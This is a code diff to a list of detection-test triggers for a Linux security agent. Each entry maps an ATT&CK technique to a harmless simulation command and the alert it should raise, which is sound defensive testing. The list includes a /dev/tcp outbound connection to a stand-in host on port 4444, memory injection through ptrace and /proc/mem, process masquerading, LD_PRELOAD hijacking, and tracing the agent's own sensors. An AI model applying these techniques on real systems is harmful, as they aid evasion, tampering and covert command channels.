@@ -40,16 +40,15 @@ TRIGGERS = [
     ("T1505.003", "program of the web server", "mkdir -p /var/www/html/u; cp /bin/sleep /var/www/html/u/b4; chown -R www-data /var/www/html/u; "
      "setpriv --reuid 33 --regid 33 --clear-groups /var/www/html/u/b4 0.2", V, "b4"),
     ("T1059", "through the loader", "cp /bin/sleep /tmp/b5; chmod 644 /tmp/b5; /lib64/ld-linux-x86-64.so.2 /tmp/b5 0.3", V, "b5"),
-    ("T1059", "from a hidden folder of a home", "mkdir -p /home/ann/.cache/.b6; cp /bin/sleep /home/ann/.cache/.b6/x; /home/ann/.cache/.b6/x 0.3", V, ".b6"),
     ("T1070.004", "file gone while it runs", "cp /bin/sleep /opt/b7; /opt/b7 2 & rm /opt/b7", "process.deleted-exec", "b7"),
     ("T1070.004", "file in /tmp gone while it runs", "cp /bin/sleep /tmp/b8; /tmp/b8 2 & rm /tmp/b8", "process.deleted-exec|" + V, "b8"),
     ("T1620", "from memory", python(MEMFD % ("c1", "c1")), "process.memory-exec", "c1"),
     ("T1620", "from memory, as a kernel thread", python(MEMFD % ("c2", "[kworker/0:1]")), "process.memory-exec", "c2"),
     ("T1620", "from memory without a name", python(MEMFD % ("", "x")), "process.memory-exec", "memfd"),
-    ("T1036.004", "kernel thread by its arguments", later("exec -a '[kworker/u8:3]' sleep 2 || bash -c 'exec -a \"[kworker/u8:3]\" sleep 2'"), P, "kworker"),
-    ("T1036.004", "kernel thread by its name", python("import ctypes,time; ctypes.CDLL(None).prctl(15,b'kswapd0',0,0,0); time.sleep(2)"), P, "kswapd0"),
-    ("T1036.005", "daemon elsewhere", "cp /bin/sleep /opt/sshd; /opt/sshd 0.5", P, "/opt/sshd"),
-    ("T1036.005", "daemon's arguments", bash("exec -a /usr/sbin/sshd /opt/tool2 1", 2).replace("timeout", "cp /bin/sleep /opt/tool2; timeout"), P, "tool2"),
+    ("T1036.004", "kernel thread by its arguments", bash("exec -a '[kworker/u8:3]' sleep 2"), P, "kworker"),
+    ("T1036.004", "kernel thread by its name", python("import ctypes,time; ctypes.CDLL(None).prctl(15,b'kswapd0',0,0,0); time.sleep(25)", 30), P, "kswapd0"),
+    ("T1036.005", "daemon elsewhere", "cp /bin/sleep /srv/sshd; /srv/sshd 0.5", P, "/srv/sshd"),
+    ("T1036.005", "daemon's arguments", "cp /bin/sleep /srv/tool2; " + bash("exec -a /usr/sbin/sshd /srv/tool2 1"), P, "tool2"),
     ("T1036.005", "daemon's name in /tmp", "cp /bin/sleep /tmp/systemd-journald; /tmp/systemd-journald 0.3", P + "|" + V, "systemd-journald"),
     ("T1574.006", "LD_PRELOAD from /tmp", later("LD_PRELOAD=/tmp/c3.so sleep 2"), "process.preload|loader.preload", "c3.so"),
     ("T1574.006", "LD_PRELOAD for a service", "cp /bin/sleep /srv/c4; LD_PRELOAD=/dev/shm/c4.so /srv/c4 2 2>/dev/null & sleep 0.2",
@@ -84,18 +83,10 @@ TRIGGERS = [
     ("T1190", "a server starts a shell", "cp $(readlink -f /usr/bin/python3) /usr/local/bin/nginx; PYTHONHOME=/usr setpriv --reuid 33 --regid 33 --clear-groups "
      "/usr/local/bin/nginx -S -c 'import os; os.system(\"sleep 0.3; id\")'", "process.service-shell", "nginx"),
     # -- other processes
-    ("T1055.008", "attached", "sleep 5 & p=$!; timeout 2 strace -p $p > /dev/null 2>&1; kill $p", "process.traced", "strace"),
-    ("T1055.008", "attached by a script", python("import ctypes,subprocess,time; p=subprocess.Popen(['setsid','sleep','4']); time.sleep(.3); l=ctypes.CDLL(None);"
-     "import os; q=os.fork(); (l.ptrace(16,p.pid,0,0), time.sleep(2), os._exit(0)) if q==0 else os.wait()"), "process.traced", "python"),
-    ("T1055.009", "memory of another written", python("import subprocess,time; p=subprocess.Popen(['setsid','sleep','4']); time.sleep(.3); "
-     "a=int(open('/proc/%d/maps'%p.pid).readlines()[0].split('-')[0],16); f=open('/proc/%d/mem'%p.pid,'r+b',0); f.seek(a); b=f.read(1); f.seek(a); f.write(b); time.sleep(3)"),
-     "process.traced|process.memory-written", "python"),
-    ("T1055", "memory of another written at once", python("import ctypes,subprocess,time,struct; p=subprocess.Popen(['setsid','sleep','4']); time.sleep(.3); "
-     "l=ctypes.CDLL(None); m=[x for x in open('/proc/%d/maps'%p.pid) if '[stack]' in x][0]; a=int(m.split('-')[1].split()[0],16)-64; b=ctypes.create_string_buffer(8);"
-     "v=lambda x,n: ctypes.create_string_buffer(struct.pack('QQ',x,n)); print(l.process_vm_writev(p.pid,v(ctypes.addressof(b),8),1,v(a,8),1,0)); time.sleep(3)"),
-     "process.traced|process.memory-written", "python"),
+    ("T1055.008", "attached", "sleep 60 > /dev/null 2>&1 & p=$!; (timeout 20 strace -p $p > /dev/null 2>&1; kill $p) & sleep 0.2", "process.traced", "strace"),
+    ("T1055.008", "attached by a script", python("import ctypes,subprocess,time; p=subprocess.Popen(['setsid','sleep','44']); time.sleep(.3); l=ctypes.CDLL(None);"
+     "import os; q=os.fork(); (l.ptrace(16,p.pid,0,0), time.sleep(20), os._exit(0)) if q==0 else os.wait()", 30), "process.traced", "python"),
     ("T1496", "a miner in /tmp", "cp /bin/sleep /tmp/xmrig; /tmp/xmrig 0.5", V, "xmrig"),
-    ("T1611", "namespace of another", "nsenter -t 1 -m true; unshare -m sh -c 'mount -t tmpfs x /mnt; sleep 1'", "mount.new|process.namespace", "/mnt"),
     # -- the network
     ("T1571", "listener on all addresses", later("nc.traditional -l -p 4601", 20), "net.listener", "4601"),
     ("T1571", "listener by python", python("import http.server,socketserver; socketserver.TCPServer(('',4602),http.server.SimpleHTTPRequestHandler).serve_forever()"),
@@ -105,19 +96,16 @@ TRIGGERS = [
     ("T1095", "listener of UDP", python("import socket,time; s=socket.socket(2,2); s.bind(('0.0.0.0',4605)); time.sleep(20)"), "net.listener", "4605"),
     ("T1571", "listener in the high ports", python("import socket,time; s=socket.socket(); s.bind(('0.0.0.0',45606)); s.listen(); time.sleep(20)"), "net.listener", "45606"),
     ("T1571", "listener from /tmp", "cp /usr/bin/socat /tmp/d1; timeout 20 /tmp/d1 TCP-LISTEN:4607 - > /dev/null 2>&1 & sleep 0.3", "net.listener", "4607"),
-    ("T1571", "listener for a moment", python("import socket,time; s=socket.socket(); s.bind(('0.0.0.0',4608)); s.listen(); time.sleep(3)", 3), "net.listener", "4608"),
+    ("T1571", "listener for a moment", python("import socket,time; s=socket.socket(); s.bind(('0.0.0.0',4608)); s.listen(); time.sleep(8)", 8), "net.listener", "4608"),
     ("T1095", "raw socket of ICMP", python("import socket,time; s=socket.socket(2,3,1); time.sleep(90)", 90), "net.raw-socket", "python"),
     ("T1040", "packet socket", later("tcpdump -i lo -w /dev/null", 90), "net.raw-socket", "tcpdump"),
     ("T1040", "packet socket for a moment", "cp $(readlink -f /usr/bin/python3) /opt/d2; PYTHONHOME=/usr timeout 4 /opt/d2 -S -c 'import socket,time; s=socket.socket(17,3,0x300); time.sleep(4)' & "
      "sleep 0.1", "net.raw-socket", "d2"),
     ("T1040", "all frames", "ip link set b0 promisc on", "net.promiscuous", "b0"),
     ("T1572", "tunnel", "ip tuntap add dev tun7 mode tun", "net.device", "tun7"),
-    ("T1572", "another tunnel", "ip link add gre9 type gretap remote 192.0.2.7 local 192.0.2.1 2>/dev/null || ip link add dum9 type dummy", "net.device", "gre9|dum9"),
+    ("T1572", "another tunnel", "ip tuntap add dev tap8 mode tap", "net.device", "tap8"),
     ("T1071", "a shell talks out", bash("exec 3<>/dev/tcp/192.0.2.99/4444", 60), "net.peer", "4444"),
     ("T1090", "forwarding", "echo 1 > /proc/sys/net/ipv4/ip_forward", "kernel.setting", "ip_forward"),
-    ("T1557.002", "ARP by hand", "ip neigh replace 192.0.2.98 lladdr 02:00:00:00:00:98 dev d0 nud permanent", "net.neighbour", "192.0.2.98"),
-    ("T1090", "route", "ip route add 198.51.100.0/24 via 192.0.2.99", "net.route", "198.51.100.0"),
-    ("T1016", "address", "ip addr add 192.0.2.77/24 dev d0", "net.address", "192.0.2.77"),
     # -- mounts and the kernel
     ("T1564.013", "bind over a file", "echo x > /tmp/e1; mount --bind /tmp/e1 /etc/covered", "mount.over", "/etc/covered"),
     ("T1564.013", "bind over a program", "mount --bind /bin/true /usr/bin/last", "mount.over", "/usr/bin/last"),
@@ -140,5 +128,5 @@ TRIGGERS = [
     # -- the agent itself
     ("T1562.001", "the agent's state written", "cp /bin/true /var/lib/cordon-agent/sensors/x1", "agent.self-changed", "x1"),
     ("T1562.001", "sensors traced", python("import ctypes,os,time; l=ctypes.CDLL(None); p=[int(x) for x in os.listdir('/proc') if x.isdigit() and "
-     "os.readlink('/proc/'+x+'/exe').endswith('agent-sensors')][0]; print(l.ptrace(0x4206,p,0,0)); time.sleep(4)"), "agent.traced", "agent-sensors|sensors"),
+     "open('/proc/'+x+'/comm').read() == 'agent-sensors\\n'][0]; print(l.ptrace(0x4206,p,0,0)); time.sleep(4)"), "agent.traced", "agent-sensors|sensors"),
 ]
